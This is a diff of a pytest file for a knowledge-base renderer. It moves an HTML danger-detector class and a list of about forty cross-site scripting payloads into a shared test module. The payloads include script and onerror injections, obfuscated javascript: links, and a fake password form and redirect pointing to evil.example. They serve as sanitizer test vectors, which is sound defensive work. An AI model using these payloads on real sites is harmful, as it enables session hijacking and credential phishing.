@@ -5,7 +5,6 @@ from __future__ import annotations
 import signal
 from collections.abc import Iterator
 from contextlib import suppress
-from html.parser import HTMLParser
 from types import FrameType
 
 import pytest
@@ -13,85 +12,11 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from kb.render import Page, Renderer, RenderError, anchor_of, plain
+from tests.kb.attacks import ATTACKS, Danger
 
 
 def rendered(source: str, title: str | None = None) -> Page:
     return Renderer().render(source, title, str)
-
-
-class Danger(HTMLParser):
-    """Collects everything in a page that could run or restyle something."""
-
-    def __init__(self, html: str) -> None:
-        super().__init__()
-        self.found: list[str] = []
-        self.feed(html)
-        self.close()
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        if tag in {
-            "script",
-            "style",
-            "iframe",
-            "object",
-            "embed",
-            "form",
-            "svg",
-            "math",
-            "base",
-            "meta",
-            "link",
-        }:
-            self.found.append(tag)
-        for name, value in attrs:
-            target = (value or "").lower().lstrip("".join(map(chr, range(33))))
-            target = target.translate(dict.fromkeys(map(ord, "\t\r\n")))  # as browsers do
-            if name.startswith("on") or name in {"style", "srcset", "formaction", "srcdoc"}:
-                self.found.append(name)
-            if name in {"href", "src"} and target.startswith(("javascript:", "data:", "vbscript:")):
-                self.found.append(target)
-
-
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<a href='java\tscript:alert(1)'>x</a>",
-    "<a href='&#106;avascript:alert(1)'>x</a>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](vbscript:msgbox(1))",
-    "![x](javascript:alert(1))",
-    "![x](x){onerror=alert(1)}",
-    "![x](x){style=position:fixed}",
-    '[x](x "y\\" onmouseover=\\"alert(1)")',
-    '[x](<x" onmouseover="alert(1)>)',
-    "# x {onclick=alert(1)}",
-    '# x {#"><script>alert(1)</script>}',
-    '<https://x.example/"onclick=alert(1)>',
-    "```html\n<script>alert(1)</script>\n```",
-    "`<script>alert(1)</script>`",
-    '```"><script>alert(1)</script>\nx\n```',
-    '!!! note "<script>alert(1)</script>"\n    x',
-    "> [!note] <img src=x onerror=alert(1)>\n> x",
-    "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|d|",
-    "[^1]\n\n[^1]: <script>alert(1)</script>",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "<style>*{display:none}</style>",
-    "<div style='background:url(javascript:alert(1))'>x</div>",
-    "<form action=//evil.example><input type=password name=p><button>Sign in</button></form>",
-    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<!--><script>alert(1)</script-->",
-    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
-]
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
